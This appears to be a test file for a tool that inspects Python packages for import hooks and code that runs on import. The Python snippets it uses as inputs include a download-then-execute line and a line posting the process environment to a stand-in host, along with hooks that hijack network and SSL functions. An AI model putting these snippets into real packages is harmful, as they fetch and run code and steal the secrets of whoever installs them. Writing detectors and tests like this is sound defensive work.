import type { Signal } from "@packhouse/contract/review/inspection";
import { describe, expect, test } from "vitest";
import { found, signalsOf } from "../testing/signals-of-sources.ts";

const inModule = (text: string): Signal[] => signalsOf({ files: { "orchard/__init__.py": text } });

describe("code changes what Python imports, or runs at its start", () => {
  test.each([
    ["import sys\nsys.meta_path.insert(0, Finder())", "warning import-hook sys.meta_path.insert"],
    ["import sys\nsys.meta_path[:0] = [Finder()]", "warning import-hook sys.meta_path"],
    ["import builtins\nbuiltins.__import__ = own", "warning import-hook __import__"],
    ["import builtins\nbuiltins.open = own", "warning import-hook open"],
    ["import requests\nrequests.Session.send = own", "warning import-hook requests.Session.send"],
    ["import ssl\nssl._create_default_https_context = own", "warning import-hook ssl._create_default_https_context"],
    ["import sys\nsys.modules['requests'] = own", "warning import-hook sys.modules: requests"],
    ["import sys\nsys.path.insert(0, '/tmp/modules')", "warning import-hook sys.path.insert"],
    ["import site\ndef f(): open(site.getsitepackages()[0] + '/a.pth', 'w')", "danger py-pth-file '/a.pth'"],
    ["import sys\nvars(sys.modules['os'])['system']('id')", "warning process os"],
  ])("%j is %j", (text, expected) => {
    expect(found(inModule(text))).toContain(expected);
  });

  test("in a function that nobody calls, a hook is a notice", () => {
    expect(found(inModule("import sys\ndef f(): sys.meta_path.append(Finder())"))).toEqual([
      "notice import-hook sys.meta_path.append",
    ]);
  });

  test.each([
    "import sys\nsys.modules[__name__] = own",
    "import sys\nsys.modules['orchard.moves'] = own",
    "import sys, os\nsys.path.insert(0, os.path.dirname(__file__))",
    "import requests\nsession = requests.Session()\nsession.verify = True",
    "import socket\nclass A:\n    socket = socket.socket",
  ])("%j is none of that", (text) => {
    expect(inModule(text).filter(({ id }) => id === "import-hook")).toEqual([]);
  });

  test("a path of a model and a list of finders are none of that", () => {
    const text = "import sys, torch\ntorch.load('model.pth')\nfor finder in sys.meta_path: print(finder)\n";
    expect(inModule(text)).toEqual([]);
  });
});

/** A function that nothing has called yet. */
const post = "import requests\ndef a():\n    requests.post(u)\n";

describe("what runs on import", () => {
  const importTime = (text: string): string[] => found(inModule(text).filter(({ id }) => id === "py-import-time-call"));

  test.each([
    ["import os\nos.system('x')", "os.system"],
    ["import os\nclass A:\n    x = os.system('x')", "os.system"],
    ["import os\ndef d(f):\n    os.system('x')\n    return f\n@d\ndef g(): pass", "os.system"],
    ["import ctypes\nctypes.CDLL(None).system(b'x')", "ctypes.CDLL().system"],
    ["import os\ndef f(x=os.system('x')): pass", "os.system"],
    ["import os\n@register(os.system('x'))\ndef f(): pass", "os.system"],
    ["import os\ntry:\n    os.system('x')\nexcept Exception:\n    pass", "os.system"],
    ["import os\nif sys.platform == 'win32':\n    os.system('x')", "os.system"],
    ["import requests\ndef a():\n    requests.post(u)\ndef b():\n    a()\nb()", "requests.post"],
    ["import requests\nclass A:\n    def __init__(self):\n        requests.post(u)\nA()", "requests.post"],
    ["import requests\nclass A:\n    def go(self):\n        requests.post(u)\na = A()\na.go()", "requests.post"],
    ["import requests, threading\ndef a():\n    requests.post(u)\nthreading.Thread(target=a).start()", "requests.post"],
    ["import shutil\nshutil.rmtree(path)", "shutil.rmtree"],
    [`${post}class M(type):\n    def __init__(cls, *a):\n        a()\nclass A(metaclass=M): pass`, "requests.post"],
    [`${post}class B:\n    def __init_subclass__(cls):\n        a()\nclass A(B): pass`, "requests.post"],
    [`${post}class D:\n    def __set_name__(self, *x):\n        a()\nclass A:\n    d = D()`, "requests.post"],
    [`${post}class C:\n    def __enter__(self):\n        a()\nwith C():\n    pass`, "requests.post"],
    [`${post}class C:\n    @property\n    def x(self):\n        a()\nC().x`, "requests.post"],
    [`${post}class C:\n    def __init__(self):\n        a()\nclass E(C): pass\nE()`, "requests.post"],
    [`${post}sorted([1], key=lambda _: a())`, "requests.post"],
    [`${post}(lambda: a())()`, "requests.post"],
    [`${post}globals()["a"]()`, "requests.post"],
    [`${post}[a][0]()`, "requests.post"],
    [`${post}import functools\nfunctools.partial(a)()`, "requests.post"],
    [`${post}jobs = {"a": a}\njobs["a"]()`, "requests.post"],
    [`${post}import atexit\natexit.register(a)`, "requests.post"],
    [`${post}import signal\nsignal.signal(2, a)`, "requests.post"],
    [
      `${post}def d(x):\n    def i(f):\n        a()\n        return f\n    return i\n@d(1)\ndef g(): pass`,
      "requests.post",
    ],
    ["exec(code)", "exec"],
    ["# notes\rimport os; os.system('x')\r# end", "os.system"],
    ["eval(compile(code, 'a', 'exec'))", "eval"],
    ["import os\nTYPE_CHECKING = True\nif TYPE_CHECKING:\n    os.system('x')", "os.system"],
    ["import os\nfrom own import TYPE_CHECKING\nif TYPE_CHECKING:\n    os.system('x')", "os.system"],
    ["while True:\n    print('LIBERTY')", "while"],
  ])("%j", (text, subject) => {
    expect(importTime(text)).toContain(`warning py-import-time-call ${subject}`);
  });

  test.each([
    "import os\ndef f(): os.system('x')",
    "import os\nf = lambda: os.system('x')",
    "import os\nif __name__ == '__main__':\n    os.system('x')",
    "import os, sys\nif sys.platform != 'win32' and __name__ == '__main__':  # no cover\n    os.system('x')",
    "import os\nfrom typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    os.system('x')",
    "import os\nTYPE_CHECKING = False\nif TYPE_CHECKING:\n    os.system('x')",
    "import os, typing as t\nif t.TYPE_CHECKING:\n    os.system('x')",
    "import requests\nsession = requests.Session()",
    "import socket\nname = socket.gethostname()",
    "import shutil\ndef f(p): shutil.rmtree(p)",
    "while True:\n    if x(): break",
    "import requests\ndef a():\n    requests.post(u)\na = cached(a)",
    `${post}__all__ = ["a"]\nJOBS = {"a": a}`,
    `${post}class A:\n    x = property(a)`,
    `${post}x = field(default_factory=lambda: a())`,
    `${post}class C:\n    def __enter__(self):\n        a()\nc = C()`,
    `${post}def d(f):\n    def w():\n        a()\n    return w\n@d\ndef g(): pass`,
  ])("%j does not", (text) => {
    expect(importTime(text)).toEqual([]);
  });

  test("a function of another module that a module calls", () => {
    const net =
      "import requests\ndef _post(): requests.post(u)\ndef send(): _post()\nclass Sender:\n    def __init__(self): _post()\nclass Base:\n    def __init_subclass__(cls): _post()\ndef mark(f): _post()\ndef __getattr__(name): _post()\n";
    for (const call of [
      "from .net import send\nsend()",
      "from . import net\nnet.send()",
      "import orchard.net as n\nn.Sender()",
      "import atexit\nfrom .net import send\natexit.register(send)",
      "from .net import missing",
      "from .net import mark\n@mark\ndef f(): pass",
      "from .net import Base\nclass A(Base): pass",
    ]) {
      const signals = signalsOf({ files: { "orchard/__init__.py": call, "orchard/net.py": net } });
      expect(found(signals)).toContain("warning py-import-time-call requests.post");
    }
    const unused = signalsOf({ files: { "orchard/__init__.py": "from .net import send\n", "orchard/net.py": net } });
    expect(found(unused)).toEqual(["warning network requests"]);
  });

  test("reaching the network and starting a program is a danger, and so is sending the environment", () => {
    const both = "import os, urllib.request\nurllib.request.urlretrieve('http://a.example/x', 'x')\nos.system('./x')\n";
    const sent = "import os, requests\nrequests.post('http://a.example', data=dict(os.environ))\n";
    for (const text of [both, sent]) expect(importTime(text).every((line) => line.startsWith("danger"))).toBe(true);
    expect(importTime(both)).toHaveLength(2);
    expect(importTime(sent)).not.toEqual([]);
  });
});
